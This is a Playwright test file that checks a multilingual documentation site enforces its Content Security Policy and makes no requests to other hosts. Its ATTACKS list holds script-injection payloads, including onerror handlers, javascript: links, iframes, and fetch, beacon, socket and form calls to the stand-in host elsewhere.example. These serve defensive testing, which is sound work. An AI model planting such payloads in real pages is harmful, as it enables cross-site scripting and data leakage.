"""Every page in every state keeps to the policy, to its own host and to what a reader agreed to."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.security.recording import Recording, record
from tests.server.nginx import serve
from tests.site.html import language_of, pages
from tests.tables import Show


@pytest.fixture(scope="module")
def address(built_site: Path) -> Iterator[str]:
    """The real site on nginx, which sends the policy too."""
    with serve(built_site) as (served, _):
        yield served


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, color_scheme="light")
    yield context
    context.close()


def search(page: Page) -> None:
    page.locator("[data-md-component=search-query]").press_sequentially("some")
    page.locator(".md-search-result__link").first.wait_for(state="attached")
    page.keyboard.press("Escape")


def tick(page: Page) -> int:
    """Tick what is not ticked; how many boxes that were."""
    boxes = page.locator("article [data-item]:not(:checked)")
    count = 0
    while boxes.count():  # an item that stands twice on a page is ticked twice by one tick
        boxes.first.check()
        count += 1
    return count


def switch_scheme(page: Page) -> None:
    before = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("[data-switches=scheme]").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", before or "")


def switch_language(page: Page) -> None:
    page.locator(".languages__link:not([aria-current])").last.click()
    page.wait_for_load_state()


@pytest.mark.parametrize("language", ["fi", "sv", "en"])
def test_every_page_keeps_to_the_policy_and_to_its_host(
    context: BrowserContext, address: str, built_site: Path, language: str, show: Show
) -> None:
    recording = record(context)
    page = context.new_page()
    urls = [url for url, _ in pages(built_site) if language_of(url) == language]
    ticked = 0
    for url in urls:
        page.goto(address + url)
        ticked += tick(page)
        search(page)
        switch_scheme(page)
    switch_language(page)
    assert len(urls) > 10
    assert ticked > 10
    assert clean(recording, address)
    assert context.cookies() == []
    for kind, count in recording.kinds().items():
        show("Requests recorded", language, kind, count, "to other hosts: 0, refused: 0")
    show(
        "Pages and states visited",
        language,
        f"{len(urls)} pages",
        f"loaded, searched, scheme and language switched, {ticked} boxes ticked: no violation",
    )


def clean(recording: Recording, address: str) -> bool:
    """Tell whether nothing happened that must not; if something did, the assertion shows it."""
    assert recording.refused == []
    assert recording.complaints == []
    assert recording.dialogs == []
    assert recording.to_other_hosts(address) == []
    return True


def test_a_missing_page_keeps_to_the_policy_and_to_its_host(
    context: BrowserContext, address: str
) -> None:
    recording = record(context)
    page = context.new_page()
    for language in ("", "sv/", "en/"):
        page.goto(f"{address}{language}no/such/page/", wait_until="networkidle")
        search(page)
        switch_scheme(page)
    assert [refused.split("/", 3)[-1] for refused in recording.refused] == [
        f"{language}no/such/page/" for language in ("", "sv/", "en/")
    ]
    assert recording.to_other_hosts(address) == []
    assert [text for text in recording.complaints if "404" not in text] == []


ATTACKS = {
    "inline script": "element('script', {textContent: 'ran()'})",
    "inline module": "element('script', {type: 'module', textContent: 'ran()'})",
    "event handler": "html('<img src=/none onerror=ran()>')",
    "script address": "html('<a href=javascript:ran()>x</a>').querySelector('a').click()",
    "script from elsewhere": "element('script', {src: 'https://elsewhere.example/x.js'})",
    "script as data": "element('script', {src: 'data:text/javascript,ran()'})",
    "style element": "element('style', {textContent: 'body {color: rgb(1, 2, 3)}'})",
    "style attribute": "document.body.setAttribute('style', 'color: rgb(1, 2, 3)')",
    "frame": "element('iframe', {src: 'https://elsewhere.example/'})",
    "frame with text": "element('iframe', {srcdoc: '<script>parent.ran()</' + 'script>'})",
    "plug-in": "element('object', {data: 'https://elsewhere.example/x.swf'})",
    "image from elsewhere": "element('img', {src: 'https://elsewhere.example/x.png'})",
    "fetch": "fetch('https://elsewhere.example/').catch(() => {})",
    "socket": "new WebSocket('wss://elsewhere.example/')",
    "beacon": "navigator.sendBeacon('https://elsewhere.example/', 'x')",
    "worker": "new Worker('https://elsewhere.example/x.js')",
    "form": "html('<form action=https://elsewhere.example/>').querySelector('form').submit()",
    "base": "document.head.append(Object.assign(document.createElement('base'),"
    " {href: 'https://elsewhere.example/'}))",
}
PREPARE = """
window.ran = () => { document.title = "ran" }
window.violations = 0
document.addEventListener("securitypolicyviolation", () => { window.violations += 1 })
window.element = (name, properties) =>
  document.body.appendChild(Object.assign(document.createElement(name), properties))
window.html = (text) => {
  const box = element("div", {})
  box.innerHTML = text
  return box
}
"""


def wait_for_violation(page: Page) -> None:
    """Playwright's own way to wait for something makes code of text, which the policy forbids."""
    page.evaluate(
        """() => new Promise((done) => {
          setInterval(() => { if (window.violations) done() }, 10)
        })"""
    )


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("host", ["header and page", "page alone"])
def test_the_policy_is_in_force(
    page: Page, address: str, server: str, host: str, attack: str, show: Show
) -> None:
    """Whatever got into a page: the browser refuses to run, show, fetch or send it."""
    asked: list[str] = []
    page.goto(address if host == "header and page" else server, wait_until="networkidle")
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate(f"() => {{ {PREPARE} }}")
    page.evaluate(f"() => {{ try {{ {ATTACKS[attack]} }} catch {{}} }}")
    wait_for_violation(page)
    assert page.title() != "ran"
    assert page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
    assert not [url for url in asked if "elsewhere.example" in url]
    show("Attacks on an open page", attack, host, "refused by the browser")


def test_code_made_of_text_does_not_run(page: Page, server: str) -> None:
    """The test's own code may do so, so the page's is asked: a timer takes text as code."""
    page.goto(server)
    page.evaluate(f"() => {{ {PREPARE} setTimeout('ran()', 0) }}")
    wait_for_violation(page)
    assert page.title() != "ran"
